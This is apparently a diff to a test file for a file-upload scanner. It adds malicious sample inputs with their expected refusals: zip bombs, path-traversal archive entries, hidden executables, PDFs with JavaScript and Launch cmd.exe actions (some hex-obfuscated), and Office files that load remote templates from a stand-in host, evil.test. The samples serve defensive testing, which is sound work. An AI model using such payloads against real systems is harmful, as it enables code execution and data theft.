@@ -10,8 +10,8 @@ import { startScanner } from './scanner.ts';
 import { startWorld, type World } from './world.ts';
 
 /**
- * What is done with every animal: `kept`, or refused with a status and a sentence. Nothing that is kept is ever unpacked,
- * parsed or run; it goes out as a download, so that a polyglot is no more than the kind it was kept as.
+ * What is done with every animal: `kept`, or refused with a status and a sentence. What is kept was looked into, and is never
+ * run; it goes out as a download, so that a polyglot is no more than the kind it was kept as.
  */
 type Verdict = 'kept' | readonly [status: number, message: string];
 
@@ -20,6 +20,9 @@ const large: Verdict = [413, 'File size too large.'];
 const kind: Verdict = [415, 'This kind of file is not accepted.'];
 const mismatch: Verdict = [415, 'The content does not match the file name.'];
 const unsafe: Verdict = [415, 'This file is not safe to open.'];
+const scripted: Verdict = [415, 'This PDF runs a script or a program when it is opened.'];
+const remote: Verdict = [415, 'This file loads a template or other content from another computer.'];
+const withProgram: Verdict = [415, 'This archive has a program, a script or a shortcut in it.'];
 const virus: Verdict = [415, 'This file contains a virus.'];
 const locked: Verdict = [422, 'This file is protected by a password.'];
 const damaged: Verdict = [422, 'This file is damaged.'];
@@ -43,6 +46,13 @@ function overlapping(): Buffer {
   return join(one.subarray(0, listAt), ...Array.from({ length: 200 }, () => entry), fixed);
 }
 
+/** An archive in an archive, and so on. */
+function nested(depth: number): Buffer {
+  let inner = zoo.zip({ 'a.txt': 'a' });
+  for (let level = 0; level < depth; level += 1) inner = zoo.zip({ [`${level}.zip`]: inner });
+  return inner;
+}
+
 const animals: readonly (readonly [name: string, bytes: () => Buffer, verdict: Verdict])[] = [
   // Sizes
   ['nothing.pdf', () => Buffer.alloc(0), empty],
@@ -60,6 +70,135 @@ const animals: readonly (readonly [name: string, bytes: () => Buffer, verdict: V
   ['zeroes.png', () => padded(zoo.png(), 5_000_000), 'kept'],
   ['well packed.zip', () => zoo.zip({ 'rents.csv': repeated(2_000_000) }), 'kept'],
   ['zip in zip.zip', () => zoo.zip({ 'inner.zip': zoo.zip({ a: 'a' }) }), 'kept'],
+  ['lying list.zip', () => zoo.zip({ a: repeated(5_000_000) }, { claims: 1000 }), unsafe],
+  ['lying throughout.zip', () => zoo.zip({ a: repeated(5_000_000) }, { grows: 4_999_000 }), unsafe],
+  ['lying.docx', () => zoo.office('docx', 'x', { 'word/x.xml': repeated(900) }, { grows: 10 }), unsafe],
+  ['nested bomb.zip', () => zoo.zip({ 'a.zip': zoo.zip({ b: repeated(60_000_000) }) }), unsafe],
+  ['nested lie.zip', () => zoo.zip({ a: zoo.zip({ b: repeated(900) }, { grows: 10 }) }), unsafe],
+  ['nested too deep.zip', () => nested(5), unsafe],
+  ['nested.zip', () => nested(3), 'kept'],
+  ['nested slip.zip', () => zoo.zip({ 'a.zip': zoo.zip({ '../../evil.txt': 'x' }) }), unsafe],
+  // Programs
+  ['program.zip', () => zoo.zip({ 'invoice.pdf.exe': 'x' }), withProgram],
+  ['shortcut.zip', () => zoo.zip({ 'docs/invoice.LNK': 'x' }), withProgram],
+  ['script.zip', () => zoo.zip({ 'run.ps1 . ': 'x' }), withProgram],
+  ['renamed program.zip', () => zoo.zip({ 'photo.jpg': zoo.program() }), withProgram],
+  ['shell.zip', () => zoo.zip({ 'readme.txt': '#!/bin/sh\nid' }), withProgram],
+  ['nested program.zip', () => zoo.zip({ 'a.zip': zoo.zip({ 'a.js': 'x' }) }), withProgram],
+  ['program.docx', () => zoo.office('docx', 'x', { 'word/media/a.png': zoo.program() }), withProgram],
+  ['executive.zip', () => zoo.zip({ 'exe/summary of exe.pdf': 'x', 'plan.dwg': 'x' }), 'kept'],
+  // PDFs that act
+  ['script.pdf', () => zoo.actingPdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), scripted],
+  ['script spelled.pdf', () => zoo.actingPdf('/OpenAction << /S /J#61vaScri#70t /JS (x) >>'), scripted],
+  ['launch.pdf', () => zoo.actingPdf('/OpenAction << /S/Launch /F (cmd.exe) >>'), scripted],
+  ['launch apart.pdf', () => zoo.actingPdf('/AA << /O << /S\n/L#61unch /Win << >> >> >>'), scripted],
+  ['packed script.pdf', () => zoo.packedPdf('<< /S /JavaScript /JS (x) >>'), scripted],
+  [
+    'packed otherwise.pdf',
+    () => join(zoo.pdf('x').subarray(0, 9), '<< /Type /ObjStm >>\nstream\nnoise\nendstream', zoo.pdf('x')),
+    scripted,
+  ],
+  [
+    'script in zip.zip',
+    () => zoo.zip({ 'a.pdf': zoo.actingPdf('/OpenAction << /S /JavaScript >>') }),
+    scripted,
+  ],
+  ['packed.pdf', () => zoo.packedPdf('<< /Type /Page >>'), 'kept'],
+  ['link.pdf', () => zoo.actingPdf('/A << /S /URI /URI (https://meet.example/Launch) >>'), 'kept'],
+  // Office files that fetch
+  [
+    'template.docx',
+    () =>
+      zoo.office('docx', 'x', {
+        'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', '\\\\evil.test\\a.dotm'),
+      }),
+    remote,
+  ],
+  [
+    'template web.docx',
+    () =>
+      zoo.office('docx', 'x', {
+        'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', 'https://evil.test/a.dotm'),
+      }),
+    remote,
+  ],
+  [
+    'template share.docx',
+    () =>
+      zoo.office('docx', 'x', {
+        'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', 'file://evil.test/a.dotm'),
+      }),
+    remote,
+  ],
+  [
+    'picture.docx',
+    () =>
+      zoo.office('docx', 'x', {
+        'word/_rels/document.xml.rels': zoo.outside('image', 'http://evil.test/a.png'),
+      }),
+    remote,
+  ],
+  [
+    'object.xlsx',
+    () =>
+      zoo.office('xlsx', 'x', {
+        'xl/worksheets/_rels/sheet1.xml.rels': zoo.outside('oleObject', '//evil.test/a.xls'),
+      }),
+    remote,
+  ],
+  [
+    'workbook.xlsx',
+    () =>
+      zoo.office('xlsx', 'x', {
+        'xl/externalLinks/_rels/externalLink1.xml.rels': zoo.outside(
+          'externalLinkPath',
+          'https:&#47;/evil.test/a.xlsx',
+        ),
+      }),
+    remote,
+  ],
+  [
+    'template in zip.zip',
+    () =>
+      zoo.zip({
+        'a.docx': zoo.office('docx', 'x', {
+          'word/_rels/settings.xml.rels': zoo.outside('attachedTemplate', 'https://evil.test/a.dotm'),
+        }),
+      }),
+    remote,
+  ],
+  [
+    'broken relations.docx',
+    () => zoo.office('docx', 'x', { 'word/_rels/settings.xml.rels': '<Relationships' }),
+    damaged,
+  ],
+  [
+    'own template.docx',
+    () =>
+      zoo.office('docx', 'x', {
+        'word/_rels/settings.xml.rels': zoo.outside(
+          'attachedTemplate',
+          'file:///C:\\Users\\ann\\Normal.dotm',
+        ),
+      }),
+    'kept',
+  ],
+  [
+    'beside it.xlsx',
+    () =>
+      zoo.office('xlsx', 'x', {
+        'xl/externalLinks/_rels/externalLink1.xml.rels': zoo.outside('externalLinkPath', 'rents%202026.xlsx'),
+      }),
+    'kept',
+  ],
+  [
+    'hyperlink.docx',
+    () =>
+      zoo.office('docx', 'x', {
+        'word/_rels/document.xml.rels': zoo.outside('hyperlink', 'https://lender.example/terms'),
+      }),
+    'kept',
+  ],
   // Ways out of a folder
   ['slip.zip', () => zoo.zip({ '../../evil.sh': 'x' }), unsafe],
   ['slip deep.zip', () => zoo.zip({ 'a/../../evil.sh': 'x' }), unsafe],
@@ -70,7 +209,7 @@ const animals: readonly (readonly [name: string, bytes: () => Buffer, verdict: V
   ['link.zip', () => zoo.zip({ passwd: '/etc/passwd' }, { links: true }), unsafe],
   ['slip.docx', () => zoo.office('docx', 'x', { '../../evil.xml': 'x' }), unsafe],
   ['dots that are a name.zip', () => zoo.zip({ 'a..b/...c': 'x' }), 'kept'],
-  // External entities: kept, as nothing here parses them
+  // External entities: kept, as nothing here follows them
   ['xxe.docx', () => zoo.office('docx', 'x', { 'word/settings.xml': xxe }), 'kept'],
   ['xxe.xlsx', () => zoo.office('xlsx', 'x', { 'xl/sharedStrings.xml': xxe }), 'kept'],
   ['laughs.xlsx', () => zoo.office('xlsx', 'x', { 'xl/sharedStrings.xml': laughs }), 'kept'],
@@ -118,7 +257,7 @@ const animals: readonly (readonly [name: string, bytes: () => Buffer, verdict: V
   ['locked.xlsx', () => zoo.compound({ EncryptedPackage: Buffer.alloc(8) }), locked],
   // Viruses
   ['eicar.txt', zoo.eicar, virus],
-  ['eicar.zip', () => zoo.zip({ 'eicar.com': zoo.eicar() }), virus],
+  ['eicar.zip', () => zoo.zip({ 'eicar.txt': zoo.eicar() }), virus],
   ['eicar.docx', () => zoo.office('docx', 'x', { 'word/media/x.bin': zoo.eicar() }), virus],
   ['eicar.pdf', () => zoo.pdf(zoo.eicar().toString()), virus],
 ];
